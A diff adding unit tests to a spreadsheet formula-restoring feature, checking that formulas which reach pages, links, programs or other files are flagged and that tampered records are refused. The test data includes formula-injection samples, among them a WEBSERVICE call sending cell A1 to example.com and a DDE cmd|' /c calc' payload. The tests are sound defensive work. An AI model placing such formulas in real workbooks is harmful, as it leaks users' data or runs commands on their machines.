@@ -218,6 +218,34 @@ describe('restoring', () => {
     expect(applied(noted, back.plan).map(({ name }) => name)).toEqual(['חברות', 'הקפאת נוסחאות']);
   });
 
+  it.each([
+    ['a page', '=CLUSTERQUOTA(B2,C2,D2)&WEBSERVICE("https://example.com/?"&A1)'],
+    ['a link', '=HYPERLINK("https://example.com",CLUSTERQUOTA(B2,C2,D2))'],
+    ['a program', "=CLUSTERQUOTA(B2,C2,D2)+cmd|' /c calc'!A0"],
+    ['another file', "=CLUSTERQUOTA('[other.xlsx]a'!B2,C2,D2)"],
+  ])('does not put back a formula that reaches %s without asking', (_, formula) => {
+    const back = restored(sent(book([['x', 1, 1, 1, [formula, 5]]])));
+    expect(back.conflicts).toMatchObject([
+      { kind: 'reaches-outside', formula, choices: ['formula', 'keep'] },
+    ]);
+  });
+
+  it('refuses a record with a formula that is none of ours', () => {
+    const spoiled = sent().map((each) => ({
+      ...each,
+      rows: each.rows.map((row) =>
+        row.map((cell) =>
+          typeof cell?.value === 'string' && cell.value.startsWith('{')
+            ? { value: cell.value.replace('=CLUSTERQUOTA(B2,C2,D2)', '=WEBSERVICE(B2)') }
+            : cell,
+        ),
+      ),
+    }));
+    expect(planRestore(spoiled)).toMatchObject({
+      problems: [{ code: 'record-payload-unexpected', facts: { path: 'cells.0.formula' } }],
+    });
+  });
+
   it('refuses a record that is not what freezing keeps', () => {
     const spoiled = sent().map((each) =>
       each.name === '_eshkol'
